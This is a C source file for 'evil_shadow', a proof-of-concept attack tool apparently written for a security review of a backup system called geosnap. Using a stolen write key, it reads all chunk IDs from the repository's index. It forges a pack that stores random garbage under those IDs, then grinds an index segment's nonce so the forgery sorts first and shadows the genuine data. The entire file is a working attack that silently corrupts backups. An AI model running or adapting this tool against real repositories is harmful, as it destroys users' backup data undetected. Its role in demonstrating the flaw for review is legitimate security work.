/*
 * evil_shadow REPO WRITE_KEY [--no-index] [--garbage-len N]
 *
 * The attack of the December 2026 security review (H1): read every chunk ID
 * from the index segments (the index key is in the write key), write a new,
 * well-formed pack that holds garbage under each of those IDs, and an index
 * segment naming that pack, its nonce ground until its name sorts before
 * every existing segment.  With --no-index only the pack is written: the
 * next backup finds it without an index entry and adopts it.
 *
 * Prints the forged objects as "pack NAME" and "index NAME" lines.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sodium.h>
#include <xxhash.h>

#include "evil.h"
#include "geosnap/pack.h"

static void
name_of(const uint8_t *p, size_t len, char out[GS_NAME_HEX])
{
	XXH128_canonical_t c;

	XXH128_canonicalFromHash(&c, XXH3_128bits(p, len));
	gs_hex(out, c.digest, GS_NAME_LEN);
}

int
main(int argc, char **argv)
{
	struct evil e;
	char(*names)[GS_NAME_HEX] = NULL;
	size_t n, nids = 0, capids = 0;
	struct {
		uint8_t id[GS_ID_LEN];
		uint8_t type;
	} *ids = NULL;
	struct gs_pack_writer *pw;
	struct gs_index_pack ip;
	struct gs_index fidx;
	struct gs_buf b = {0};
	char pname[GS_NAME_HEX], iname[GS_NAME_HEX], first[GS_NAME_HEX] = "~";
	uint8_t garbage[4096];
	size_t glen = 64;
	int no_index = 0;
	unsigned long tries = 0;

	if (argc < 3)
		evil_die("usage: evil_shadow REPO WRITE_KEY [--no-index] [--garbage-len N]");
	for (int i = 3; i < argc; i++) {
		if (strcmp(argv[i], "--no-index") == 0)
			no_index = 1;
		else if (strcmp(argv[i], "--garbage-len") == 0 && i + 1 < argc)
			glen = strtoul(argv[++i], NULL, 10) % sizeof(garbage) + 1;
		else
			evil_die("unknown argument %s", argv[i]);
	}
	evil_open(&e, argv[1], argv[2]);
	if (gs_repo_list(e.r, e.tenant, GS_OBJ_INDEX, &names, &n))
		evil_die("cannot list the index");
	for (size_t i = 0; i < n; i++) {
		struct gs_index idx;
		uint8_t *buf;
		size_t len;

		if (strcmp(names[i], first) < 0)
			strcpy(first, names[i]);
		if (gs_repo_read(e.r, e.tenant, GS_OBJ_INDEX, names[i], &buf, &len) ||
		    gs_index_parse(e.k->index_key, names[i], buf, len, &idx))
			evil_die("cannot read index %s", names[i]);
		free(buf);
		for (uint32_t p = 0; p < idx.npacks; p++)
			for (uint32_t c = 0; c < idx.packs[p].n; c++) {
				if (nids == capids) {
					capids = capids ? capids * 2 : 256;
					if ((ids = realloc(ids, capids * sizeof(*ids))) == NULL)
						evil_die("out of memory");
				}
				memcpy(ids[nids].id, idx.packs[p].chunks[c].id, GS_ID_LEN);
				ids[nids++].type = idx.packs[p].chunks[c].type;
			}
		gs_index_clear(&idx);
	}
	free(names);
	if (nids == 0)
		evil_die("the tenant has no chunks to shadow");

	if ((pw = gs_pack_writer_new(e.r, e.tenant, e.k, GS_ALG_XCHACHA)) == NULL)
		evil_die("cannot start a pack");
	for (size_t i = 0; i < nids; i++) {
		randombytes_buf(garbage, glen);
		if (gs_pack_writer_add(pw, ids[i].id, ids[i].type, garbage, glen, (uint32_t)glen,
		                       0))
			evil_die("cannot add a chunk");
	}
	if (gs_pack_writer_commit(pw, &ip))
		evil_die("cannot publish the pack");
	gs_pack_writer_free(pw);
	gs_hex(pname, ip.name, GS_NAME_LEN);
	printf("pack %s\n", pname);
	fprintf(stderr, "evil: shadowed %zu chunk IDs\n", nids);
	if (!no_index) {
		fidx.npacks = 1;
		fidx.packs = &ip;
		/* The nonce is random: encode again until the name sorts first. */
		do {
			b.len = 0;
			gs_index_encode(e.k->index_key, &fidx, &b);
			if (b.oom)
				evil_die("out of memory");
			name_of(b.p, b.len, iname);
		} while (strcmp(iname, first) >= 0 && ++tries < 5000000);
		if (gs_repo_put(e.r, e.tenant, GS_OBJ_INDEX, b.p, b.len, iname))
			evil_die("cannot publish the index segment");
		printf("index %s\n", iname);
		fprintf(stderr, "evil: index %s sorts first after %lu tries\n", iname, tries);
	}
	free(ip.chunks);
	free(ids);
	gs_buf_clear(&b);
	evil_close(&e);
	return 0;
}
